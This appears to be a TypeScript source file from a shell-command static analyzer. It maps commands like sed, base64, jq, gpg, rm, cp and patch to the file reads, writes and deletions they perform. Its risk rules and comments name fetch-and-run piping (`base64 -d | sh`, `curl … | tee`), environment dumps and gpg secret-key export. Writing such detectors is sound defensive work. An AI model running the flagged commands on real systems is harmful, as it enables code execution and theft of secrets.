const SED_ADDR = String.raw`(?:(?:\d+|\$|\/(?:\\.|[^/\\\n])*\/[IM]*|\\(.)(?:\\.|(?!\1).)*\1)(?:\s*[,~]\s*(?:\d+|\$|\/(?:\\.|[^/\\\n])*\/[IM]*))?\s*!?)?`;

function sedScript(a: ShellAnalyzer, inv: Invocation, script: string): void {
  for (const m of script.matchAll(new RegExp(String.raw`(?:^|[;\n{}])\s*` + SED_ADDR + String.raw`\s*([wWrR])\s+([^;\n}]+)`, 'g'))) {
    const file = m[3]!.trim();
    if (file === '/dev/stdout' || file === '/dev/stderr') continue;
    a.path(f(file), m[2]!.toLowerCase() === 'w' ? 'write' : 'read', `sed ${m[2]} command`, inv.st);
  }
  for (const m of script.matchAll(new RegExp(String.raw`(?:^|[;\n{}])\s*` + SED_ADDR + String.raw`\s*e(?:\s+([^;\n}]*))?(?=$|[;\n}])`, 'g'))) {
    const cmd = m[2]?.trim();
    if (cmd) runText(a, inv, cmd, 'sed e command', { kind: 'none' });
  }
  for (const m of script.matchAll(/s(.)(?:\\.|(?!\1).)*\1(?:\\.|(?!\1).)*\1[gpiIme0-9]*w\s+([^;\n}]+)/g)) a.path(f(m[2]!.trim()), 'write', 'sed s///w', inv.st);
  if (/(?:^|[;\n{}])\s*[0-9$,/]*\s*e(\s|$|;)/.test(script) || /s(.)(?:\\.|(?!\1).)*\1(?:\\.|(?!\1).)*\1[gpiIm0-9w]*e/.test(script)) {
    a.risk('interpreter-inline-exec', `sed script executes commands: ${truncate(script)}`);
  }
}

// ── file readers ────────────────────────────────────────────────────────

const READER_SPECS: Record<string, OptSpec> = {
  cat: {}, tac: { short: 's' }, nl: { short: 'bdfhilnpsvw' }, head: { short: 'nc', numeric: true, long: ['lines', 'bytes'] },
  tail: { short: 'ncs', numeric: true, long: ['lines', 'bytes', 'pid', 'sleep-interval', 'max-unchanged-stats'] },
  less: { short: 'bhjkoOpPtTxyz#', long: ['log-file', 'LOG-FILE'] }, more: { numeric: true }, most: {}, pg: {}, view: {},
  bat: { short: 'lmrHpLw', long: ['language', 'map-syntax', 'line-range', 'highlight-line', 'theme', 'style', 'tabs', 'wrap'] },
  batcat: { short: 'lmrHpLw', long: ['language', 'line-range', 'theme', 'style'] },
  strings: { short: 'ntTeo', numeric: true }, od: { short: 'AjNtwS' }, hexdump: { short: 'enNsf' }, hd: { short: 'enNs' },
  base64: { short: 'w' }, base32: { short: 'w' }, basenc: { short: 'w' },
  md5sum: {}, sha1sum: {}, sha224sum: {}, sha256sum: {}, sha384sum: {}, sha512sum: {}, b2sum: { short: 'l' }, cksum: { short: 'al' }, sum: {},
  shasum: { short: 'a' }, md5: { short: 's' },
  wc: { long: ['files0-from'] }, sort: { short: 'kStTo', long: ['key', 'field-separator', 'buffer-size', 'temporary-directory', 'output', 'files0-from'] },
  uniq: { short: 'fsw' }, cut: { short: 'bcdf', long: ['delimiter', 'fields', 'bytes', 'characters', 'output-delimiter'] },
  paste: { short: 'd' }, join: { short: 'ajoet12' }, comm: {}, fold: { short: 'w' }, fmt: { short: 'wgp' }, pr: { short: 'wlhoNn' },
  expand: { short: 't' }, unexpand: { short: 't' }, column: { short: 'csoNRHWlE', long: ['separator', 'output-separator', 'table-columns', 'table-name', 'table-right', 'table-hide', 'output-width'] }, iconv: { short: 'fto', long: ['from-code', 'to-code', 'output'] },
  diff: { short: 'UCIFLSxX', long: ['label', 'from-file', 'to-file', 'exclude', 'exclude-from', 'ignore-matching-lines', 'unified', 'context'], groups: [['-r', '--recursive'], ['-N', '--new-file']] },
  cmp: { short: 'inb' }, sdiff: { short: 'owI' }, diff3: { short: 'L' }, colordiff: { short: 'UC' },
  zcat: {}, zless: {}, zmore: {}, bzcat: {}, xzcat: {}, lz4cat: {}, zstdcat: {}, zgrep: {},
  jq: { short: 'fL', long: ['arg', 'argjson', 'slurpfile', 'rawfile', 'from-file', 'indent', 'args', 'jsonargs'] },
  yq: { short: 'oIpe', long: ['output-format', 'input-format', 'expression', 'indent'] },
  xmllint: { short: '', long: ['xpath', 'output', 'schema'] },
  openssl: {},
  // gpg takes any unique abbreviation of a long option: its export options are listed so `--export-secret-k`
  // resolves to --export-secret-keys while `--export` stays the public export.
  gpg: { short: 'orud', long: ['output', 'recipient', 'local-user', 'default-key', 'homedir'], flags: ['--export', '--export-secret-keys', '--export-secret-subkeys', '--export-ssh-key', '--export-ownertrust', '--export-options', '--export-filter', '--armor', '--decrypt', '--encrypt', '--sign', '--list-keys', '--list-secret-keys', '--import', '--verify'] },
  tee: {}, look: {}, rev: {}, tr: {}, cat2: {},
  xxd: { short: 'cglosC' },
  split: { short: 'lbnaC', long: ['lines', 'bytes', 'number', 'suffix-length', 'additional-suffix', 'line-bytes'] },
  csplit: { short: 'bfn' },
  cpio: { short: 'DEFHIMORV' },
};

for (const [name, spec] of Object.entries(READER_SPECS)) {
  if (['tee', 'xxd', 'split', 'openssl', 'gpg', 'sort', 'jq', 'yq', 'tr', 'cpio', 'base64', 'base32', 'basenc', 'rev'].includes(name)) continue;
  on(name, (a, inv) => {
    const p = parseArgs(inv.args, spec);
    emit(a, inv, p);
    // diff -r prints every file below both trees (all of it with -N).
    readAll(a, inv, p.operands, `${inv.program} operand`, (name === 'diff' || name === 'colordiff') && has(p, '-r', '--recursive'));
    // Options naming an output file: less's log, iconv -o, sdiff -o, xmllint --output.
    const writesOption = name === 'less' || name === 'iconv' || name === 'sdiff' || name === 'xmllint';
    for (const v of allValues(p, '--files0-from', '--log-file', '-o', '--LOG-FILE', '--output')) a.path(v, writesOption ? 'write' : 'read', `${inv.program} option`, inv.st);
    if (name === 'diff' || name === 'colordiff') for (const v of allValues(p, '--from-file', '--to-file', '--exclude-from', '-X')) a.path(v, 'read', 'diff option', inv.st);
    if (name === 'cat' || name === 'tac' || name === 'head' || name === 'tail' || name === 'nl') {
      if (p.operands.length) inv.outputFiles = p.operands.filter((o) => !o.dynamic).map((o) => a.firstPath(o, inv.st));
      else if (inv.stdin.kind === 'text' && name === 'cat') inv.output = { text: inv.stdin.text, dynamic: inv.stdin.dynamic };
    }
  });
}

on('tr', (a, inv) => emit(a, inv, parseArgs(inv.args)));

/** Standard input text when it is statically known (here-doc, here-string, echo upstream). */
function stdinText(stdin: Stdin): { text: string; dynamic: boolean } | undefined {
  if (stdin.kind === 'text') return { text: stdin.text, dynamic: stdin.dynamic };
  if (stdin.kind === 'pipe') {
    const last = stdin.producers[stdin.producers.length - 1];
    if (last?.output !== undefined) return { text: last.output, dynamic: !!last.outputDynamic };
  }
  return undefined;
}

/** Input of a filter: its first operand's content when this command line wrote it, else stdin. */
function filterInput(a: ShellAnalyzer, inv: Invocation, operand: Field | undefined): { text: string; dynamic: boolean } | undefined {
  if (!operand) return stdinText(inv.stdin);
  const o = a.fileOrigin(inv.st, operand);
  return o?.kind === 'text' ? { text: o.text, dynamic: o.dynamic } : undefined;
}

/**
 * Encoders and decoders. When the input is known, the output is computed, so `echo <base64> | base64 -d | sh`
 * is analysed as the command it decodes to (and still carries the decoded-payload risk).
 */
on(['base64', 'base32', 'basenc'], (a, inv) => {
  const p = parseArgs(inv.args, { short: 'w', long: ['wrap'], groups: [['-d', '--decode', '-D']], flags: ['--base64', '--base64url', '--base32', '--base16', '--ignore-garbage'] });
  emit(a, inv, p);
  readAll(a, inv, p.operands, `${inv.program} input`);
  if (!has(p, '-d', '--decode')) return;
  const input = filterInput(a, inv, p.operands[0]);
  const decoded = input && !input.dynamic ? decode(inv.program === 'base64' || has(p, '--base64', '--base64url') ? 'base64' : inv.program === 'base32' || has(p, '--base32') ? 'base32' : 'hex', input.text) : undefined;
  if (decoded !== undefined) inv.output = { text: decoded, dynamic: false };
  else inv.producesOrigin = { kind: 'decoded', detail: `${inv.program} -d` };
});

on('rev', (a, inv) => {
  const p = parseArgs(inv.args);
  emit(a, inv, p);
  readAll(a, inv, p.operands, 'rev input');
  const input = filterInput(a, inv, p.operands[0]);
  if (input) inv.output = { text: input.text.split('\n').map((l) => [...l].reverse().join('')).join('\n'), dynamic: input.dynamic };
});

function decode(kind: 'base64' | 'base32' | 'hex', text: string): string | undefined {
  const t = text.replace(/\s+/g, '');
  let buf: Buffer;
  if (kind === 'base64') {
    if (!/^[A-Za-z0-9+/_-]*={0,2}$/.test(t)) return undefined;
    buf = Buffer.from(t, 'base64');
  } else if (kind === 'hex') {
    if (!/^([0-9a-fA-F]{2})*$/.test(t)) return undefined;
    buf = Buffer.from(t, 'hex');
  } else {
    const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
    const clean = t.replace(/=+$/, '').toUpperCase();
    if (!/^[A-Z2-7]*$/.test(clean)) return undefined;
    let bits = '';
    for (const c of clean) bits += alphabet.indexOf(c).toString(2).padStart(5, '0');
    const bytes: number[] = [];
    for (let i = 0; i + 8 <= bits.length; i += 8) bytes.push(parseInt(bits.slice(i, i + 8), 2));
    buf = Buffer.from(bytes);
  }
  const out = buf.toString('utf8');
  return out.includes('\uFFFD') ? undefined : out;
}

on(['jq', 'yq', 'gojq', 'jaq'], (a, inv) => {
  const spec = READER_SPECS[inv.program] ?? READER_SPECS.jq!;
  // --arg/--argjson take a name and a value, --slurpfile/--rawfile a name and a file: rewrite them as
  // one option with the second word as its value.
  const args: Field[] = [];
  for (let i = 0; i < inv.args.length; i++) {
    const t = inv.args[i]!.text;
    if (['--arg', '--argjson', '--slurpfile', '--rawfile'].includes(t) && i + 2 < inv.args.length) {
      args.push({ ...inv.args[i + 2]!, text: `${t}=${inv.args[i + 2]!.text}` });
      i += 2;
    } else args.push(inv.args[i]!);
  }
  const p = parseArgs(args, spec);
  emit(a, inv, p);
  let ops = p.operands;
  const fromFile = value(p, '-f', '--from-file');
  // yq v4: `yq e|eval EXPR FILE…` names its mode first.
  const sub = inv.program === 'yq' && /^(e|eval|ea|eval-all)$/.test(p.operands[0]?.text ?? '') ? 1 : 0;
  if (fromFile) a.path(fromFile, 'read', `${inv.program} filter file`, inv.st);
  else if (!value(p, '-e', '--expression')) ops = ops.slice(1 + sub);
  const filter = fromFile ? undefined : value(p, '-e', '--expression') ?? p.operands[sub];
  if (filter && jqDumpsEnv(filter.text)) a.risk('env-dump', `${inv.program} ${truncate(filter.text)} prints the environment`);
  if (has(p, '--args', '--jsonargs')) ops = [];
  for (const v of [...allValues(p, '--slurpfile'), ...allValues(p, '--rawfile')]) a.path(v, 'read', `${inv.program} file option`, inv.st);
  readAll(a, inv, ops, `${inv.program} input`);
  if (has(p, '-i', '--inplace')) for (const o of ops) a.path(o, 'write', `${inv.program} -i`, inv.st);
});

/** A jq filter that outputs the whole environment (`env`, `$ENV`), not one variable (`env.HOME`, `$ENV.PATH`). */
function jqDumpsEnv(filter: string): boolean {
  const code = filter.replace(/"(?:\\.|[^"\\])*"/g, '""');
  return /\$ENV\b(?!\s*(?:\.[A-Za-z_"]|\[\s*"))/.test(code) || /(?<![\w$.])env\b(?!\s*(?:\.[A-Za-z_"]|\[\s*"|\(|:))/.test(code);
}

on('sort', (a, inv) => {
  const p = parseArgs(inv.args, READER_SPECS.sort!);
  emit(a, inv, p);
  readAll(a, inv, p.operands, 'sort input');
  for (const o of allValues(p, '-o', '--output')) a.path(o, 'write', 'sort -o', inv.st);
  for (const o of allValues(p, '--files0-from')) a.path(o, 'read', 'sort --files0-from', inv.st);
});

on('xxd', (a, inv) => {
  const p = parseArgs(inv.args, READER_SPECS.xxd!);
  emit(a, inv, p);
  const [input, output] = p.operands;
  if (input) a.path(input, 'read', 'xxd input', inv.st);
  if (output) a.path(output, 'write', 'xxd output', inv.st);
  if (!p.flags.some((x) => /^-\w*r/.test(x) || x === '-revert')) return;
  const text = filterInput(a, inv, input);
  const plain = p.flags.some((x) => /^-\w*p/.test(x) || x === '-ps' || x === '-plain');
  const decoded = plain && text && !text.dynamic ? decode('hex', text.text) : undefined;
  if (decoded !== undefined && !output) inv.output = { text: decoded, dynamic: false };
  else if (output) a.noteFile(inv.st, output, { kind: 'decoded', detail: 'xxd -r' });
  else inv.producesOrigin = { kind: 'decoded', detail: 'xxd -r' };
});

on(['split', 'csplit'], (a, inv) => {
  const p = parseArgs(inv.args, READER_SPECS[inv.program]!);
  emit(a, inv, p);
  const [input, prefix] = p.operands;
  if (input) a.path(input, 'read', `${inv.program} input`, inv.st);
  if (prefix && inv.program === 'split') a.path({ ...prefix, glob: prefix.text.replace(/[*?[\]\\]/g, '\\$&') + '*' }, 'write', 'split output', inv.st);
});

on('tee', (a, inv) => {
  const p = parseArgs(inv.args, { groups: [['-a', '--append']], long: ['output-error'] });
  emit(a, inv, p);
  const input = stdinText(inv.stdin);
  for (const o of p.operands) {
    a.path(o, 'write', 'tee', inv.st);
    a.noteFile(inv.st, o, input ? { kind: 'text', ...input } : stdinOrigin(inv.stdin), has(p, '-a', '--append'));
  }
  if (input) inv.output = input;
});

/** A download or decoded payload arriving on stdin (curl … | tee x.sh). */
function stdinOrigin(stdin: Stdin): FileOrigin | undefined {
  if (stdin.kind !== 'pipe') return undefined;
  const src = classifyProducers(stdin.producers);
  if (src.kind === 'risk' && src.risk === 'download-to-shell') return { kind: 'download', detail: src.detail };
  if (src.kind === 'risk' && src.risk === 'decoded-to-shell') return { kind: 'decoded', detail: src.detail };
  return undefined;
}

on(['openssl'], (a, inv) => {
  const sub = inv.args[0];
  const p = parseArgs(inv.args.slice(1), { singleDashLong: true });
  emit(a, inv, p, sub ? [sub.text] : []);
  const rest = inv.args.slice(1);
  for (let i = 0; i < rest.length; i++) {
    const t = rest[i]!.text;
    const next = rest[i + 1];
    if (!next) break;
    if (['-in', '-key', '-inkey', '-cert', '-CAfile', '-passin', '-kfile', '-signkey', '-config', '-pass'].includes(t)) {
      if (t.startsWith('-pass') && !/^file:/.test(next.text)) continue;
      a.path({ ...next, text: next.text.replace(/^file:/, '') }, 'read', `openssl ${t}`, inv.st);
      i++;
    } else if (['-out', '-keyout'].includes(t)) {
      a.path(next, 'write', `openssl ${t}`, inv.st);
      i++;
    } else if (t === '-connect') {
      addUrl(a, inv, next.text, 'openssl s_client', stdinSends(inv.stdin), 'tls');
      i++;
    }
  }
});

on(['gpg', 'gpg2'], (a, inv) => {
  const p = parseArgs(inv.args, READER_SPECS.gpg!);
  emit(a, inv, p);
  readAll(a, inv, p.operands, 'gpg input');
  for (const o of allValues(p, '-o', '--output')) a.path(o, 'write', 'gpg --output', inv.st);
  const home = value(p, '--homedir')?.text ?? inv.env.GNUPGHOME ?? `${a.env.home}/.gnupg`;
  if (has(p, '--export-secret-keys', '--export-secret-subkeys')) a.path(f(`${home.replace(/\/+$/, '')}/private-keys-v1.d`), 'read', 'gpg --export-secret-keys', inv.st, { recursive: true });
});

// ── search tools ────────────────────────────────────────────────────────

on(['grep', 'egrep', 'fgrep', 'ack', 'ag', 'ugrep', 'pcregrep', 'pcre2grep'], (a, inv) => {
  const p = parseArgs(inv.args, {
    short: 'efABCmdDX',
    long: ['regexp', 'file', 'after-context', 'before-context', 'context', 'max-count', 'include', 'exclude', 'exclude-dir', 'exclude-from', 'label', 'binary-files', 'devices', 'directories', 'color', 'colour', 'group-separator'],
    groups: [['-r', '--recursive'], ['-R', '--dereference-recursive']],
  });
  emit(a, inv, p);
  let ops = p.operands;
  for (const file of allValues(p, '-f', '--file', '--exclude-from')) a.path(file, 'read', `${inv.program} pattern file`, inv.st);
  if (!p.values.has('-e') && !p.values.has('--regexp') && !p.values.has('-f') && !p.values.has('--file')) ops = ops.slice(1);
  const recursive = has(p, '-r', '-R', '--recursive', '--dereference-recursive') || inv.program === 'ack' || inv.program === 'ag';
  if (!ops.length && recursive) ops = [f('.')];
  const includes = allValues(p, '--include');
  for (const o of ops) {
    a.path(o, 'read', `${inv.program} input`, inv.st, { recursive });
    if (recursive) for (const inc of includes) a.path({ text: DYN, dynamic: false, glob: `${o.text.replace(/\/+$/, '')}/**/${inc.text}`, noExpand: true }, 'read', `${inv.program} --include`, inv.st);
  }
});

on(['rg', 'ripgrep'], (a, inv) => {
  const p = parseArgs(inv.args, {
    short: 'efgtTmABCjMdEr',
    long: ['regexp', 'file', 'glob', 'iglob', 'type', 'type-not', 'max-count', 'after-context', 'before-context', 'context', 'threads', 'max-columns', 'max-depth', 'encoding', 'replace', 'pre', 'pre-glob', 'type-add', 'ignore-file', 'path-separator', 'sort', 'sortr', 'colors', 'color'],
  });
  emit(a, inv, p);
  let ops = p.operands;
  for (const file of allValues(p, '-f', '--file', '--ignore-file')) a.path(file, 'read', 'rg file option', inv.st);
  const pre = value(p, '--pre');
  if (pre) {
    a.risk('interpreter-inline-exec', `rg --pre runs ${pre.text} on every file`);
    a.exec([pre], inv.st, { env: inv.env, stdin: { kind: 'none' }, via: [...inv.via, 'rg --pre'], depth: inv.depth + 1 });
  }
  if (!p.values.has('-e') && !p.values.has('--regexp') && !p.values.has('-f') && !p.values.has('--file') && !has(p, '--files', '--type-list')) ops = ops.slice(1);
  if (!ops.length) ops = [f('.')];
  const globs = allValues(p, '-g', '--glob', '--iglob').filter((g) => !g.text.startsWith('!'));
  for (const o of ops) {
    a.path(o, has(p, '--files') ? 'list' : 'read', 'rg input', inv.st, { recursive: true });
    for (const g of globs) {
      const pat = g.text.includes('/') && !g.text.startsWith('**') ? g.text.replace(/^\//, '') : `**/${g.text.replace(/^\*\*\//, '')}`;
      a.path({ text: DYN, dynamic: false, glob: `${o.text.replace(/\/+$/, '')}/${pat}`, noExpand: true }, has(p, '--files') ? 'list' : 'read', 'rg --glob', inv.st);
    }
  }
});

// ── file writers, deleters, copiers ─────────────────────────────────────

const RM_SPEC: OptSpec = {
  groups: [['-r', '-R', '--recursive'], ['-f', '--force'], ['-i'], ['-I'], ['-d', '--dir'], ['-v', '--verbose']],
  flags: ['--no-preserve-root', '--preserve-root', '--one-file-system', '--interactive'],
};

on(['rm', 'grm'], (a, inv) => {
  const p = parseArgs(inv.args, RM_SPEC);
  emit(a, inv, p);
  const recursive = has(p, '-r', '--recursive');
  for (const o of p.operands) {
    a.path(o, 'delete', 'rm operand', inv.st, { recursive });
    if (recursive && (o.dynamic || (!o.glob && o.text.includes(DYN)))) a.risk('dynamic-path-delete', `rm -r of a path computed at run time: ${o.text}`);
  }
});

on(['rmdir', 'unlink', 'srm', 'wipe'], (a, inv) => {
  const p = parseArgs(inv.args, { groups: [['-r', '-R', '--recursive']] });
  emit(a, inv, p);
  const recursive = inv.program !== 'unlink' && inv.program !== 'rmdir' && has(p, '-r', '--recursive');
  for (const o of p.operands) a.path(o, 'delete', `${inv.program} operand`, inv.st, { recursive });
});

on('shred', (a, inv) => {
  const p = parseArgs(inv.args, { short: 'ns', long: ['iterations', 'size', 'random-source'], groups: [['-u', '--remove']] });
  emit(a, inv, p);
  for (const o of p.operands) {
    a.path(o, 'write', 'shred', inv.st);
    if (has(p, '-u', '--remove')) a.path(o, 'delete', 'shred -u', inv.st);
  }
});

on(['touch', 'mkdir', 'mkfifo', 'mknod', 'truncate', 'fallocate', 'setfattr', 'xattr', 'utime'], (a, inv) => {
  const short: Record<string, string> = { touch: 'dtr', mkdir: 'mZ', mkfifo: 'mZ', mknod: 'mZ', truncate: 'sr', fallocate: 'lon', setfattr: 'nvx', mktemp: 'pt' };
  const p = parseArgs(inv.args, { short: short[inv.program] ?? '', long: ['reference', 'size', 'mode', 'date', 'tmpdir', 'suffix'] });
  emit(a, inv, p);
  for (const ref of allValues(p, '-r', '--reference')) a.path(ref, 'list', `${inv.program} --reference`, inv.st);
  const ops = inv.program === 'mknod' ? p.operands.slice(0, 1) : p.operands;
  for (const o of ops) a.path(o, 'write', `${inv.program} operand`, inv.st);
});

/**
 * mktemp prints the path it created: under $TMPDIR (or /tmp) unless the template says otherwise. The X's
 * are random but the place is known, so `d=$(mktemp -d); rm -rf "$d"` is a delete in the temporary directory.
 */
on('mktemp', (a, inv) => {
  const p = parseArgs(inv.args, { short: 'p', long: ['tmpdir', 'suffix'], groups: [['-d', '--directory'], ['-u', '--dry-run'], ['-q', '--quiet'], ['-t']] });
  emit(a, inv, p);
  const tmpVar = a.varOf(inv.st, 'TMPDIR');
  const tmp = tmpVar.v.length === 1 && !tmpVar.dyn ? tmpVar.v[0]! : '/tmp';
  const template = p.operands[0];
  if (template?.dynamic) return;
  const dir = value(p, '-p', '--tmpdir');
  const name = template?.text ?? 'tmp.XXXXXXXXXX';
  const base = dir ? (dir.text || tmp) : !template || has(p, '-t') ? tmp : undefined;
  const out = name.startsWith('/') || !base ? name : `${base.replace(/\/$/, '')}/${name}`;
  const resolved = a.firstPath(f(out), inv.st);
  if (!has(p, '-u', '--dry-run')) a.path(f(resolved), 'write', 'mktemp', inv.st);
  inv.output = { text: resolved + '\n', dynamic: false };
});

on(['chmod', 'chown', 'chgrp', 'chattr', 'setfacl', 'chcon'], (a, inv) => {
  // chmod -x file: a symbolic mode starting with `-` is a mode, not an option; chattr -i likewise.
  const modeLike = inv.program === 'chmod' ? /^[-+=][rwxXstugo]+$/ : inv.program === 'chattr' ? /^[-+=][aAcCdDeEFijmPsStTux]+$/ : null;
  const args = modeLike ? inv.args.map((x) => (modeLike.test(x.text) ? { ...x, text: `\u0001${x.text}` } : x)) : inv.args;
  const p = parseArgs(args, { short: inv.program === 'setfacl' ? 'mMxX' : '', long: ['reference', 'from'], groups: [['-R', '--recursive']] });
  p.operands = p.operands.map((x) => (x.text.startsWith('\u0001') ? { ...x, text: x.text.slice(1) } : x));
  emit(a, inv, p);
  const hasRef = p.values.has('--reference');
  let ops = p.operands;
  if (!hasRef && inv.program !== 'setfacl') ops = ops.slice(1);
  const recursive = has(p, '-R', '--recursive');
  for (const o of ops) a.path(o, 'write', `${inv.program} operand`, inv.st, { recursive });
});

function targetAndSources(p: ParsedArgs): { sources: Field[]; dest?: Field; intoDir: boolean } {
  const t = value(p, '-t', '--target-directory');
  if (t) return { sources: p.operands, dest: t, intoDir: true };
  if (p.operands.length < 2) return { sources: p.operands, intoDir: false };
  const dest = p.operands[p.operands.length - 1]!;
  return { sources: p.operands.slice(0, -1), dest, intoDir: p.operands.length > 2 || dest.text.endsWith('/') };
}

/**
 * Where cp/mv/install put each source: `dest/basename(src)` when dest is a directory (trailing slash,
 * -t, several sources, or an existing directory), else dest itself. When it cannot be told, both.
 */
function copyTargets(a: ShellAnalyzer, inv: Invocation, src: Field, dest: Field, intoDir: boolean, noTargetDir: boolean): Field[] {
  if (noTargetDir) return [dest];
  const inside: Field = { ...dest, text: `${dest.text.replace(/\/+$/, '')}/${basename(src.text.replace(/\/+$/, '')) || DYN}` };
  if (intoDir) return [inside];
  const isDir = dest.dynamic ? undefined : a.env.fs?.isDir?.(a.firstPath(dest, inv.st));
  if (isDir === true) return [inside];
  if (isDir === false && a.env.fs) return [dest];
  return [dest, inside];
}

on(['cp', 'gcp'], (a, inv) => {
  const p = parseArgs(inv.args, {
    short: 'tS',
    long: ['target-directory', 'suffix', 'backup', 'reflink', 'sparse', 'preserve', 'no-preserve', 'context'],
    groups: [['-r', '-R', '--recursive'], ['-a', '--archive'], ['-f', '--force'], ['-l', '--link'], ['-s', '--symbolic-link'], ['-L', '--dereference']],
  });
  emit(a, inv, p);
  const recursive = has(p, '-r', '--recursive', '-a', '--archive');
  const { sources, dest, intoDir } = targetAndSources(p);
  for (const s of sources) {
    a.path(s, 'read', 'cp source', inv.st, { recursive });
    if (!dest) continue;
    for (const t of copyTargets(a, inv, s, dest, intoDir, has(p, '-T', '--no-target-directory'))) {
      a.path(t, 'write', 'cp destination', inv.st, { recursive });
      a.noteFile(inv.st, t, a.fileOrigin(inv.st, s));
    }
  }
});

on(['mv', 'gmv'], (a, inv) => {
  const p = parseArgs(inv.args, { short: 'tS', long: ['target-directory', 'suffix', 'backup'], groups: [['-f', '--force'], ['-n', '--no-clobber'], ['-T', '--no-target-directory']] });
  emit(a, inv, p);
  const { sources, dest, intoDir } = targetAndSources(p);
  for (const s of sources) {
    a.path(s, 'read', 'mv source', inv.st, { recursive: true });
    a.path(s, 'delete', 'mv source', inv.st, { recursive: true });
    if (!dest) continue;
    for (const t of copyTargets(a, inv, s, dest, intoDir, has(p, '-T', '--no-target-directory'))) {
      a.path(t, 'write', 'mv destination', inv.st, { recursive: true });
      a.noteFile(inv.st, t, a.fileOrigin(inv.st, s));
    }
  }
});

on(['install', 'ginstall'], (a, inv) => {
  const p = parseArgs(inv.args, { short: 'gmotS', long: ['group', 'mode', 'owner', 'target-directory', 'suffix'], groups: [['-d', '--directory']] });
  emit(a, inv, p);
  if (has(p, '-d', '--directory')) {
    for (const o of p.operands) a.path(o, 'write', 'install -d', inv.st);
    return;
  }
  const { sources, dest } = targetAndSources(p);
  readAll(a, inv, sources, 'install source');
  if (dest) a.path(dest, 'write', 'install destination', inv.st);
});

on(['ln', 'gln'], (a, inv) => {
  const p = parseArgs(inv.args, { short: 'tS', long: ['target-directory', 'suffix', 'backup'], groups: [['-s', '--symbolic'], ['-f', '--force'], ['-r', '--relative'], ['-T', '--no-target-directory']] });
  emit(a, inv, p);
  const symbolic = has(p, '-s', '--symbolic');
  const t = value(p, '-t', '--target-directory');
  const targets = t || p.operands.length > 1 ? (t ? p.operands : p.operands.slice(0, -1)) : p.operands;
  const linkArg = t ? undefined : p.operands.length > 1 ? p.operands[p.operands.length - 1] : undefined;
  for (const target of targets) {
    a.path(target, 'read', symbolic ? 'ln -s target' : 'ln target (hard link)', inv.st);
    let linkPath: string;
    const cwd = a.cwdList(inv.st)[0]!;
    if (linkArg && !linkArg.dynamic) {
      linkPath = resolveLexical(cwd, linkArg.text);
      if (a.env.fs?.isDir?.(linkPath) && !has(p, '-T')) linkPath = `${linkPath}/${basename(target.text)}`;
    } else if (t && !t.dynamic) linkPath = `${resolveLexical(cwd, t.text)}/${basename(target.text)}`;
    else linkPath = resolveLexical(cwd, linkArg?.text ?? basename(target.text));
    a.path(f(linkPath), 'write', 'ln link name', inv.st);
    if (!target.dynamic) {
      const linkDir = linkPath.slice(0, linkPath.lastIndexOf('/')) || '/';
      const resolved = symbolic && !has(p, '-r', '--relative') ? resolveLexical(linkDir, target.text) : resolveLexical(cwd, target.text);
      inv.st.links.set(linkPath, resolved);
    }
  }
});

/** `uniq [INPUT [OUTPUT]]`: the second operand is written. */
on('uniq', (a, inv) => {
  const p = parseArgs(inv.args, { short: 'fsw', long: ['skip-fields', 'skip-chars', 'check-chars', 'group', 'all-repeated'] });
  emit(a, inv, p);
  const [input, output] = p.operands;
  if (input && input.text !== '-') a.path(input, 'read', 'uniq input', inv.st);
  if (output) a.path(output, 'write', 'uniq output', inv.st);
});

/** `sponge FILE` soaks up stdin and writes it to FILE (the usual way to rewrite a file in place). */
on('sponge', (a, inv) => {
  const p = parseArgs(inv.args);
  emit(a, inv, p);
  const input = stdinText(inv.stdin);
  for (const o of p.operands) {
    a.path(o, 'write', 'sponge', inv.st);
    a.noteFile(inv.st, o, input ? { kind: 'text', ...input } : stdinOrigin(inv.stdin), has(p, '-a'));
  }
});

/**
 * patch writes the file it is given, or (without one) the files the diff names: read from a diff this command
 * line supplies (here-doc, a file it wrote), else anything below the directory it works in.
 */
on('patch', (a, inv) => {
  const p = parseArgs(inv.args, {
    short: 'pioBYzVgrDdFx',
    long: ['strip', 'input', 'output', 'directory', 'reject-file', 'ifdef', 'fuzz', 'suffix', 'prefix', 'basename-prefix', 'version-control', 'get', 'quoting-style', 'reject-format', 'read-only', 'merge', 'debug'],
    flags: ['--dry-run', '--reverse', '--forward', '--batch', '--force', '--backup', '--silent', '--quiet', '--unified', '--context', '--normal', '--ed', '--posix', '--remove-empty-files'],
  });
  emit(a, inv, p);
  const dir = value(p, '-d', '--directory');
  const st = dir ? stateIn(a, inv.st, dir) : inv.st;
  const [target, patchFile] = p.operands;
  const input = value(p, '-i', '--input') ?? patchFile;
  if (input && input.text !== '-') a.path(input, 'read', 'patch input', st);
  const out = value(p, '-o', '--output');
  if (out && out.text !== '-') a.path(out, 'write', 'patch -o', st);
  for (const r of allValues(p, '-r', '--reject-file')) if (r.text !== '-') a.path(r, 'write', 'patch reject file', st);
  if (has(p, '--dry-run')) return;
  if (target) {
    a.path(target, 'read', 'patch target', st);
    if (!out) a.path(target, 'write', 'patch target', st);
    return;
  }
  if (out) return;
  const text = input && input.text !== '-' ? textOrigin(a.fileOrigin(st, input)) : stdinText(inv.stdin);
  const strip = value(p, '-p', '--strip');
  const targets = text && !text.dynamic ? diffTargets(text.text, strip && /^\d+$/.test(strip.text) ? Number(strip.text) : undefined) : [];
  for (const t of targets) a.path(f(t), 'write', 'patch target', st);
  if (!targets.length) a.path(f('.'), 'write', 'patch target', st, { recursive: true });
});

/** The files a diff changes, after stripping `strip` leading components (none given: the base name, as patch does). */
function diffTargets(text: string, strip: number | undefined): string[] {
  const out = new Set<string>();
  for (const m of text.matchAll(/^(?:\+\+\+|---|\*\*\*|Index:)[ \t]+([^\t\n]+)/gm)) {
    const name = m[1]!.trim();
    if (name === '/dev/null' || /^\d+(,\d+)?\s*\*{4}$/.test(name) || /^\d+(,\d+)?\s*-{4}$/.test(name)) continue;
    const parts = name.split('/');
    out.add(strip === undefined ? parts[parts.length - 1]! : parts.slice(Math.min(strip, parts.length - 1)).join('/'));
    if (out.size >= 64) break;
  }
  return [...out].filter(Boolean);
}

on('dd', (a, inv) => {
  emit(a, inv, parseArgs([]));
  for (const x of inv.args) {
    const m = /^(if|of)=(.*)$/s.exec(x.text);
    if (m) a.path({ ...x, text: m[2]! }, m[1] === 'if' ? 'read' : 'write', `dd ${m[1]}=`, inv.st);
  }
});

